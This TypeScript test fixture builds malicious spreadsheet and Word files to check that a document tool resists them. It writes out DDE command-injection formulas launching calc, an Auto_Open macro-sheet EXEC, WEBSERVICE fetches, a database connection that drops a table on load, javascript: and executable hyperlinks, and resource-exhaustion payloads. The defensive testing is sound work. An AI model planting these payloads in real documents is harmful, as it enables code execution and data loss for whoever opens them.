import type { Attack } from "./attack";
import { files, link, MATRIX, matrixWith, pack, relationships, rowsOf, sheetTag, worksheet, type Pieces } from "./plainBook";
import { KEPT_NAMESPACE, keptPart } from "../../src/opc/keptPart";
import { paragraph, report, reportFiles } from "./plainReport";

const ROWS = rowsOf(MATRIX);
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const times = (count: number, text: (i: number) => string): string => Array.from({ length: count }, (_, i) => text(i)).join("");
const name = (attributes: string, text: string): string => `<definedName ${attributes}>${text}</definedName>`;
const names = (...all: readonly string[]): Pieces => ({ names: `<definedNames>${all.join("")}</definedNames>` });
const formula = (text: string, value = "16"): Pieces => ({
  rows: rowsOf(matrixWith({ J4: { xml: `<c><f>${text}</f><v>${value}</v></c>` } })),
});
const rule = (text: string, sqref = "J4"): string =>
  `<conditionalFormatting sqref="${sqref}"><cfRule type="expression" priority="1"><formula>${text}</formula></cfRule></conditionalFormatting>`;
const validation = (text: string, sqref = "J4:L9", kind = "list"): string =>
  `<dataValidations count="1"><dataValidation type="${kind}" allowBlank="0" showErrorMessage="1" sqref="${sqref}"><formula1>${text}</formula1></dataValidation></dataValidations>`;

/** The part of a book, with its link from the workbook and its type. */
function withPart(kind: string, path: string, content: string | Uint8Array, type: string): Pieces {
  return {
    workbookLinks: link("rId9", kind, path.replace(/^xl\//, "")),
    types: `<Override PartName="/${path}" ContentType="${type}"/>`,
    parts: { [path]: content },
  };
}

const DDE = withPart(
  "externalLink",
  "xl/externalLinks/externalLink1.xml",
  `<externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
  "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
);

/** Custom XML that says it is what takes a change of ours back. */
const kept = (...items: readonly string[]): Pieces => ({
  workbookLinks: items.map((_, i) => link(`x${i}`, "customXml", `../customXml/item${i + 1}.xml`)).join(""),
  parts: Object.fromEntries(items.map((text, i) => [`customXml/item${i + 1}.xml`, text])),
});
const RECORD = {
  v: 1,
  at: "2024-01-01T00:00:00Z",
  host: "xlsx",
  title: "Calcular avances 2023",
  looks: [],
  steps: [{ s: "removeSheet", sheet: ["Matriz", "1"], cells: [], names: ["PNTP_Resumen"], charts: [] }],
};

let swollen: string | undefined;
function swelling(): string {
  return (swollen ??= keptPart({ ...RECORD, title: "x".repeat(11_000_000) }, RECORD.at) ?? "");
}

const BOOKS: readonly (readonly [string, () => Pieces])[] = [
  ["a figure that asks another program", () => formula("cmd|&apos;/C calc&apos;!A0")],
  ["a figure of another file", () => formula("[1]Hoja1!A1")],
  ["a figure of another file by its path", () => formula("&apos;C:\\datos\\[otro.xlsx]Hoja1&apos;!A1")],
  ["a figure that fetches", () => formula("WEBSERVICE(&quot;http://127.0.0.1:9/&quot;&amp;A4)")],
  ["a figure of a function that nobody knows", () => formula("_xll.MAL(A1)")],
  [
    "a figure of a data table",
    () => ({
      rows: rowsOf(matrixWith({ J4: { xml: '<c><f t="dataTable" ref="A1:XFD1048576" dt2D="1" dtr="1" r1="A1" r2="B1"/><v>16</v></c>' } })),
    }),
  ],
  [
    "an array formula of the whole sheet",
    () => ({ rows: rowsOf(matrixWith({ J4: { xml: '<c><f t="array" ref="A1:XFD1048576">A1:XFD1048576</f><v>16</v></c>' } })) }),
  ],
  ["a shared formula that nobody began", () => ({ rows: rowsOf(matrixWith({ J4: { xml: '<c><f t="shared" si="7"/><v>16</v></c>' } })) })],
  ["a link of another program (DDE)", () => DDE],
  ["a conditional format that fetches", () => ({ tail: rule("WEBSERVICE(&quot;http://127.0.0.1:9/&quot;)=&quot;x&quot;") })],
  [
    "a conditional format over all cells with an endless formula",
    () => ({ tail: rule(`${"(".repeat(4000)}A1${")".repeat(4000)}`, "A1:XFD1048576") }),
  ],
  [
    "a conditional format of 50,000 areas",
    () => ({
      tail: rule(
        "TRUE",
        times(50_000, (i) => `A${i + 1} `),
      ),
    }),
  ],
  [
    "a conditional format with our mark that is not ours",
    () => ({ tail: rule("AND(N(&quot;PNTP&quot;)=0,WEBSERVICE(&quot;http://x/&quot;)=1)", "A1:J9") }),
  ],
  ["a validation that asks another program", () => ({ tail: validation("cmd|&apos;/C calc&apos;!A0") })],
  ["a validation that forbids what we write", () => ({ tail: validation("FALSE", "A1:XFD1048576", "custom") })],
  [
    "30,000 validations",
    () => ({
      tail: `<dataValidations count="30000">${times(30_000, (i) => `<dataValidation type="list" sqref="M${i + 1}"><formula1>"a,b"</formula1></dataValidation>`)}</dataValidations>`,
    }),
  ],
  [
    "a validation of 50,000 areas",
    () => ({
      tail: validation(
        "1",
        times(50_000, (i) => `M${i + 1} `),
      ),
    }),
  ],
  [
    "a name that runs when it is opened",
    () => names(name('name="_xlnm.Auto_Open" hidden="1"', "Matriz!$A$1"), name('name="Auto_Open" function="1" xlm="1"', "cmd")),
  ],
  [
    "built-in names of ours",
    () => names(name('name="_xlnm.PNTP_Resumen"', "Matriz!$A$1:$J$5"), name('name="_xlnm.PNTP_Configuracion"', "Matriz!$A$1:$J$5")),
  ],
  [
    "a hidden filter over the matrix",
    () => names(name('name="_xlnm._FilterDatabase" localSheetId="0" hidden="1"', "Matriz!$A$1:$J$1048576")),
  ],
  ["a print area in another file", () => names(name('name="_xlnm.Print_Area" localSheetId="0"', "[1]Hoja1!$A$1:$J$5"))],
  [
    "a scope of a sheet that is not there",
    () => names(name('name="_xlnm.Print_Area" localSheetId="99"', "Matriz!$A$1"), name('name="a" localSheetId="-1"', "1")),
  ],
  [
    "two names PNTP_Resumen, of the book and of the sheet",
    () => names(name('name="PNTP_Resumen"', "Matriz!$A$1:$J$5"), name('name="PNTP_Resumen" localSheetId="0"', "Matriz!$A$3:$J$5")),
  ],
  ["a name PNTP_Resumen of the sheet alone", () => names(name('name="PNTP_Resumen" localSheetId="0"', "Matriz!$A$1:$J$5"))],
  [
    "our names in other letters and hidden",
    () => names(name('name="pntp_RESUMEN" hidden="1"', "Matriz!$A$1:$J$5"), name('name="PNTP_resumen"', "Matriz!$B$2")),
  ],
  [
    "our name on two areas, on another file and on nothing",
    () =>
      names(
        name('name="PNTP_Resumen"', "Matriz!$A$1,Matriz!$B$2"),
        name('name="PNTP_Tablero"', "[1]x!$A$1"),
        name('name="PNTP_Hallazgos"', "#REF!"),
        name('name="PNTP_Configuracion"', ""),
      ),
  ],
  ["our name as a formula that fetches", () => names(name('name="PNTP_Resumen"', "INDIRECT(WEBSERVICE(&quot;http://127.0.0.1:9/&quot;))"))],
  [
    "a sheet called as ours that is hers",
    () => ({
      sheets: sheetTag(1, "Matriz") + sheetTag(2, "Resumen PNTP", "r2"),
      workbookLinks: link("r2", "worksheet", "worksheets/sheet2.xml"),
      types:
        '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
      parts: { "xl/worksheets/sheet2.xml": worksheet('<row r="1"><c r="A1" t="inlineStr"><is><t>mío</t></is></c></row>') },
    }),
  ],
  [
    "a macro without being a book of macros",
    () => withPart("vbaProject", "xl/vbaProject.bin", new Uint8Array(64).fill(0xd0), "application/vnd.ms-office.vbaProject"),
  ],
  [
    "a macro sheet of old",
    () =>
      withPart(
        "xlMacrosheet",
        "xl/macrosheets/sheet1.xml",
        `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="${MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>`,
        "application/vnd.ms-excel.macrosheet+xml",
      ),
  ],
  [
    "connections to a database",
    () =>
      withPart(
        "connections",
        "xl/connections.xml",
        `<connections xmlns="${MAIN}"><connection id="1" name="c" type="1" refreshOnLoad="1"><dbPr connection="DSN=x" command="DROP TABLE t"/></connection></connections>`,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
      ),
  ],
  ["an object of another program and a control in the matrix", () => objectsInMatrix()],
  ["a kept change that is forged", () => kept(keptPart(RECORD, RECORD.at) ?? "")],
  ["a kept change that is damaged", () => kept(`<deshacer xmlns="${KEPT_NAMESPACE}">AAAA`, `<deshacer xmlns="${KEPT_NAMESPACE}"/>`, "")],
  ["200 kept changes that swell", () => kept(...Array.from({ length: 200 }, swelling))],
  [
    "links to files and scripts",
    () => ({
      tail: '<hyperlinks><hyperlink ref="A4" r:id="h1"/><hyperlink ref="A5" r:id="h2"/></hyperlinks>',
      parts: {
        "xl/worksheets/_rels/sheet1.xml.rels": relationships(
          link("h1", "hyperlink", "file:///C:/Windows/System32/calc.exe", ' TargetMode="External"') +
            link("h2", "hyperlink", "javascript:alert(1)", ' TargetMode="External"'),
        ),
      },
    }),
  ],
  ["a book that is opened protected by a password", () => ({ names: '<workbookProtection workbookPassword="CC1A" lockStructure="1"/>' })],
  [
    "a matrix shown from right to left, filtered and grouped",
    () => ({
      head: '<sheetViews><sheetView rightToLeft="1" workbookViewId="0"/></sheetViews>',
      tail: '<autoFilter ref="A2:J5"><filterColumn colId="0"><filters><filter val="x"/></filters></filterColumn></autoFilter>',
      rows: ROWS.replace('<row r="4">', '<row r="4" hidden="1" outlineLevel="7" collapsed="1">'),
    }),
  ],
];

function objectsInMatrix(): Pieces {
  return {
    tail:
      '<legacyDrawing r:id="v1"/><oleObjects><oleObject progId="Package" shapeId="1025" r:id="o1"/></oleObjects>' +
      '<controls><control shapeId="1026" r:id="c1" name="Boton"/></controls>',
    types:
      '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>' +
      '<Override PartName="/xl/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
    parts: {
      "xl/worksheets/_rels/sheet1.xml.rels": relationships(
        link("v1", "vmlDrawing", "../drawings/vmlDrawing1.vml") +
          link("o1", "oleObject", "../embeddings/oleObject1.bin") +
          link("c1", "control", "../activeX/activeX1.xml"),
      ),
      "xl/drawings/vmlDrawing1.vml":
        '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s" o:spid="_x0000_s1025" xmlns:o="urn:schemas-microsoft-com:office:office"/></xml>',
      "xl/embeddings/oleObject1.bin": new Uint8Array(600).fill(7),
      "xl/activeX/activeX1.xml":
        '<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    },
  };
}

const WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A template with a file of another program, a control and a chart of its own figures. */
export function templateWithObjects(): Uint8Array {
  const object =
    '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId7"/></w:object></w:r></w:p>' +
    '<w:p><w:r><w:object><w:control r:id="rId8" w:name="Boton" w:shapeid="s2"/></w:object></w:r></w:p>';
  const sound = reportFiles(object + paragraph("{{informe}}"));
  const rels = String(sound["word/_rels/document.xml.rels"]).replace(
    "</Relationships>",
    `<Relationship Id="rId7" Type="${WORD}/package" Target="embeddings/carga.exe"/><Relationship Id="rId8" Type="${WORD}/control" Target="activeX/activeX1.xml"/></Relationships>`,
  );
  const types = String(sound["[Content_Types].xml"]).replace(
    "</Types>",
    '<Default Extension="exe" ContentType="application/octet-stream"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
  );
  return pack({
    ...sound,
    "[Content_Types].xml": types,
    "word/_rels/document.xml.rels": rels,
    "word/embeddings/carga.exe": "MZ",
    "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
  });
}

const WORDS: readonly Attack[] = [
  { name: "a template with an object of another program and a control", door: "template", make: templateWithObjects },
  { name: "an earlier report with an object of another program and a control", door: "earlier", make: templateWithObjects },
  {
    name: "a template with 20,000 objects of nothing",
    door: "template",
    make: () => report("<w:p><w:r><w:object/></w:r></w:p>".repeat(20_000)),
  },
];

/** What comes in a book beside its figures: what is hers stays, what acts is not obeyed. */
export const carriers: readonly (readonly [string, () => Pieces])[] = BOOKS;

export const carrierAttacks: readonly Attack[] = [
  ...BOOKS.map(([what, pieces]): Attack => ({ name: `a book with ${what}`, door: "book", make: () => pack(files(pieces())) })),
  ...WORDS,
];
